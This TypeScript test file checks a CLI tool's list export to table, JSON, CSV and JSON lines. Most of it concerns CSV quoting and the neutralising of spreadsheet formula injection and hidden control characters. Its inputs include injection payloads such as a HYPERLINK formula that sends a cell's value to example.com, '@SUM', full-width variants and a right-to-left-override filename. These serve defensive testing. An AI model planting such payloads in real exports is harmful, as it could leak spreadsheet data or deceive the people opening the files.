import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { argsOver } from '../../src/cli/command.ts'
import { EXPORT_OPTIONS, exportTargetOf, type List, listAnswer } from '../../src/cli/export.ts'
import { runTool } from '../../src/cli/run.ts'
import { DELIVERY_OPTIONS } from '../../src/exchange/deliver.ts'
import { visible } from '../../src/words/visible.ts'

// Lists are long, and the machine may have other things to do.
vi.setConfig({ testTimeout: 120_000 })

let folder: string
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'airlatch-export-'))
})
afterEach(() => rmSync(folder, { recursive: true }))

const at = (name: string) => join(folder, name)

interface Customer {
  readonly name: string
  readonly seats?: number
  readonly generic?: boolean
}

function customers(rows: readonly Customer[]): List<Customer> {
  return {
    name: 'customers',
    rows,
    columns: [
      { heading: 'NAME', cell: ({ name }) => name },
      { heading: 'SEATS', cell: ({ seats }) => seats },
      { heading: 'GENERIC', cell: ({ generic }) => generic },
    ],
    json: ({ name, seats }) => ({ name, seats: seats ?? null }),
    none: 'no customers',
  }
}

const named = (...names: readonly string[]) => customers(names.map(name => ({ name })))
const csv = (list: List<Customer>) => listAnswer(list, { format: 'csv', file: undefined }).text

/** The cells of the first column, without the heading. */
function namesIn(text: string): readonly (string | undefined)[] {
  return readCsv(text)
    .slice(1)
    .map(([name]) => name)
}

/** RFC 4180 and nothing else: an error where the text is not exactly that. */
function readCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = []
  let cells: string[] = []
  let rest = text
  while (rest !== '') {
    const [whole, quoted, plain = '', end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? []
    if (whole === undefined) throw new Error(`no CSV: ${JSON.stringify(rest.slice(0, 50))}`)
    cells.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\r\n') {
      rows.push(cells)
      cells = []
    }
    rest = rest.slice(whole.length)
  }
  return rows
}

/** A tool with one list, and what it prints. */
async function list(...words: readonly string[]) {
  const texts = { out: '', err: '' }
  const exit = await runTool(
    {
      name: 'made-up',
      summary: 'A tool.',
      globals: {},
      world: () => ({}),
      sections: [
        {
          heading: 'Commands',
          commands: [
            {
              path: 'customer list',
              summary: 'lists',
              examples: [['all', 'customer list']],
              options: EXPORT_OPTIONS,
              async run(args) {
                const target = exportTargetOf(args)
                return listAnswer(
                  customers([{ name: 'Jürgen', seats: 2, generic: true }, { name: '=1' }]),
                  target,
                )
              },
            },
          ],
        },
      ],
    },
    ['customer', 'list', ...words],
    {
      out: text => {
        texts.out += text
      },
      err: text => {
        texts.err += text
      },
    },
  )
  return { exit, ...texts }
}

describe('a list is printed', () => {
  test('as a table, when nothing else is asked for', async () => {
    expect((await list()).out).toBe('NAME    SEATS  GENERIC\nJürgen  2      true\n=1      -      -\n')
  })

  test('as one JSON value', async () => {
    expect((await list('--json')).out).toBe(
      '{"ok":true,"customers":[{"name":"Jürgen","seats":2},{"name":"=1","seats":null}]}\n',
    )
  })

  test('as CSV: a heading, lines that end in CRLF, every text quoted, numbers not; no byte order mark', async () => {
    expect(await list('--format', 'csv')).toEqual({
      exit: 0,
      out: '"NAME","SEATS","GENERIC"\r\n"Jürgen",2,true\r\n"\'=1",,\r\n',
      err: '',
    })
    expect((await list('--format', 'csv', '-o', '-')).out).toBe((await list('--format', 'csv')).out)
  })

  test('as JSON lines: each row one value', async () => {
    expect((await list('--format', 'jsonl')).out).toBe(
      '{"name":"Jürgen","seats":2}\n{"name":"=1","seats":null}\n',
    )
  })

  test('empty: the heading alone, no line, or words', () => {
    expect(csv(customers([]))).toBe('"NAME","SEATS","GENERIC"\r\n')
    expect(listAnswer(customers([]), { format: 'jsonl', file: undefined }).text).toBe('')
    expect(listAnswer(customers([]), { format: undefined, file: undefined }).text).toBe('no customers')
  })
})

describe('a list is written', () => {
  test('to a new file, whose ending chooses the format; the answer counts the rows', async () => {
    const { exit, out } = await list('-o', at('a.CSV'))
    expect({ exit, out }).toEqual({
      exit: 0,
      out: `customers  ${at('a.CSV')}\nformat     csv\nrows       2\n`,
    })
    expect(await list('-o', at('a.jsonl'), '--json')).toEqual({
      exit: 0,
      out: `${JSON.stringify({ ok: true, output: at('a.jsonl'), outputFormat: 'jsonl', rows: 2 })}\n`,
      err: '',
    })
    expect(readFileSync(at('a.jsonl'), 'utf8')).toBe((await list('--format', 'jsonl')).out)
  })

  test('as CSV with a byte order mark, by which Excel knows UTF-8', async () => {
    await list('-o', at('a.csv'))
    const bytes = readFileSync(at('a.csv'))
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(bytes.subarray(3).toString('utf8')).toBe((await list('--format', 'csv')).out)
  })

  test('under any name when the format is said', async () => {
    expect((await list('--format', 'csv', '-o', at('list.txt'))).exit).toBe(0)
    expect(namesIn(readFileSync(at('list.txt'), 'utf8').slice(1))).toEqual(['Jürgen', "'=1"])
  })

  test.each<[string, string, string]>([
    ['a file of another kind', 'a.txt', 'invalid-value'],
    ['standard output in no format', '-', 'invalid-value'],
    ['a folder that is not there', 'none/a.csv', 'cannot-write'],
    ['a file that is there', 'there.csv', 'output-exists'],
  ])('not to %s', (_name, name, code) => {
    writeFileSync(at('there.csv'), 'as it was')
    const output = name === '-' ? name : at(name)
    expect(() => exportTargetOf(argsOver({ output }))).toThrow(expect.objectContaining({ code }))
    expect(readdirSync(folder)).toEqual(['there.csv'])
    expect(readFileSync(at('there.csv'), 'utf8')).toBe('as it was')
  })

  test('not over a file that appeared during the work', () => {
    const target = exportTargetOf(argsOver({ output: at('a.csv') }))
    writeFileSync(at('a.csv'), 'as it was')
    expect(() => listAnswer(named('x'), target)).toThrow(expect.objectContaining({ code: 'output-exists' }))
    expect(readFileSync(at('a.csv'), 'utf8')).toBe('as it was')
  })

  test('not in a format that its ending denies', async () => {
    const { exit, out } = await list('--format', 'csv', '-o', at('a.jsonl'), '--json')
    expect({ exit, code: JSON.parse(out).error.code }).toEqual({ exit: 2, code: 'invalid-value' })
    expect(readdirSync(folder)).toEqual([])
  })
})

test('--json and --format contradict each other, and the hint names the command', async () => {
  for (const more of [[], ['-o', '-']]) {
    const { exit, out } = await list('--json', '--format', 'csv', ...more)
    expect({ exit, code: JSON.parse(out).error.code }).toEqual({ exit: 2, code: 'usage' })
    expect(JSON.parse(out).error.hint).toContain('"made-up customer list --help"')
  }
  expect(JSON.parse((await list('--json', '--format', 'xlsx')).out).error.code).toBe('usage')
})

test('-o is of the same kind as in commands that make a message', () => {
  const { kind, alias } = EXPORT_OPTIONS.output
  expect(DELIVERY_OPTIONS.output).toMatchObject({ kind, alias })
})

describe('a CSV cell', () => {
  const CARRIED = [
    'Dr. "Bob" O\'Neil, Jr.',
    'two\r\nlines\nand a\ttab',
    'Ünï¢ödé 漢字',
    '👩‍🔬 of 🏴󠁧󠁢󠁳󠁣󠁴󠁿',
    'می\u200cخواهم',
    '"',
    '""",""',
    ',\r\n,',
    '',
    ' padded ',
    'a=b, a-b, a+b, a@b',
    '1,5',
    '007',
  ]

  test.each(CARRIED)('%j comes back as it was', name => {
    expect(namesIn(csv(named(name)))).toEqual([name])
  })

  test('all of them at once, from a file', () => {
    listAnswer(named(...CARRIED), { format: 'csv', file: at('a.csv') })
    expect(namesIn(new TextDecoder().decode(readFileSync(at('a.csv'))))).toEqual(CARRIED)
  })

  test.each([
    '=HYPERLINK("http://example.com?"&A1,"x")',
    '@SUM(1,1)',
    '-2+3',
    '+1',
    '-5',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tx',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '=',
  ])('%j is no formula', name => {
    const [cell] = namesIn(csv(named(name))) as readonly string[]
    expect(cell?.[0]).toBe("'")
    expect(cell?.replaceAll("'", '')).toBe(name)
  })

  test.each([
    ['x;=1+1', "x;'=1+1"],
    ['x\n-1', "x\n'-1"],
    ['x\r\n@y', "x\r\n'@y"],
    ['x\t＝1', "x\t'＝1"],
    ['x,=1', 'x,=1'],
    ['x; y', 'x; y'],
  ])('%j begins no formula where a spreadsheet begins a cell: %j', (name, cell) => {
    expect(namesIn(csv(named(name)))).toEqual([cell])
  })

  test('numbers are left alone, below zero too', () => {
    expect(csv(customers([{ name: 'x', seats: -1 }]))).toContain('"x",-1,\r\n')
  })

  test('a heading is text like any other', () => {
    const list: List<number> = {
      name: 'n',
      rows: [1],
      columns: [{ heading: '=A"1', cell: n => n }],
      json: n => n,
      none: '',
    }
    expect(listAnswer(list, { format: 'csv', file: undefined }).text).toBe('"\'=A""1"\r\n1\r\n')
  })

  test.each([
    ['a\u001b[31mb', 'a\\u{1b}[31mb'],
    ['a\u0000b', 'a\\u{0}b'],
    ['a\u007f\u009bb', 'a\\u{7f}\\u{9b}b'],
    ['exe.\u202efdp', 'exe.\\u{202e}fdp'],
    ['\u2066x\u2069', '\\u{2066}x\\u{2069}'],
    ['a\u2028b\ufeff', 'a\\u{2028}b\\u{feff}'],
    ['half \ud83d', 'half \\u{d83d}'],
    ['\u200f\u200b', '\\u{200f}\\u{200b}'],
    ['\\u{202e}', '\\u{5c}u{202e}'],
    ['می\u200cخواهم 👨\u200d👩', 'می\u200cخواهم 👨\u200d👩'],
  ])('%j is shown as what it is', (name, cell) => {
    expect(namesIn(csv(named(name)))).toEqual([cell])
  })

  test('whatever the text is, the shape holds, and nothing in it can act', () => {
    const nasty = fc.string({
      unit: fc.oneof(
        fc.constantFrom(
          '"',
          ',',
          ';',
          '\r',
          '\n',
          '\t',
          '=',
          '-',
          '＝',
          "'",
          '\u001b',
          '\u202e',
          '\ufeff',
          '\ud800',
        ),
        fc.string({ unit: 'binary', maxLength: 2 }),
      ),
    })
    fc.assert(
      fc.property(fc.array(nasty), names => {
        const text = csv(named(...names))
        const rows = readCsv(text)
        expect(rows).toHaveLength(names.length + 1)
        for (const row of rows) expect(row).toHaveLength(3)
        const cells = rows.slice(1).map(([name]) => name as string)
        for (const cell of cells) expect(cell).not.toMatch(/(?:^|[;\t\r\n])[=+\-@＝＋－＠]|^[\t\r\n]/)
        expect(text).not.toMatch(/(?![\t\r\n])\p{Cc}|[\u202a-\u202e\u2066-\u2069\ufeff]/u)
        // nothing is lost: what was added are apostrophes and the names of characters
        const bare = (cell: string) => cell.replaceAll("'", '')
        const escaped = names.map(name =>
          name
            .split(/([\t\r\n])/)
            .map(shown)
            .join(''),
        )
        expect(cells.map(bare)).toEqual(escaped.map(bare))
      }),
    )
  })
})

/** Between the tabs and line ends, which CSV carries. */
function shown(piece: string): string {
  return /^[\t\r\n]$/.test(piece) ? piece : visible(piece)
}

describe('JSON lines', () => {
  test('give every text back as it was, on lines that no text can break', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' })), names => {
        const { text } = listAnswer(named(...names), { format: 'jsonl', file: undefined })
        expect(text).not.toMatch(/(?!\n)\p{Cc}|[\u2028-\u202e]/u)
        const lines = text.split('\n').slice(0, -1)
        expect(lines.map(line => JSON.parse(line).name)).toEqual(names)
      }),
    )
  })
})

describe('long lists', () => {
  const many = (count: number) =>
    customers(Array.from({ length: count }, (_, i) => ({ name: `Customer "${i}"; =1, Jürgen`, seats: i })))

  test('200 000 rows in every form', () => {
    const list = many(200_000)
    listAnswer(list, { format: 'csv', file: at('a.csv') })
    listAnswer(list, { format: 'jsonl', file: at('a.jsonl') })
    const table = listAnswer(list, { format: undefined, file: undefined })
    expect(readFileSync(at('a.csv'), 'utf8').split('\r\n')).toHaveLength(200_002)
    expect(readFileSync(at('a.jsonl'), 'utf8').split('\n')).toHaveLength(200_001)
    expect(table.text.split('\n')).toHaveLength(200_001)
    expect(table.json.customers).toHaveLength(200_000)
  })

  test('only the form that is printed is made', () => {
    let made = 0
    const counted: List<Customer> = { ...many(3), json: () => made++ }
    expect(listAnswer(counted, { format: undefined, file: undefined }).text).toContain('Customer')
    expect(made).toBe(0)
  })
})
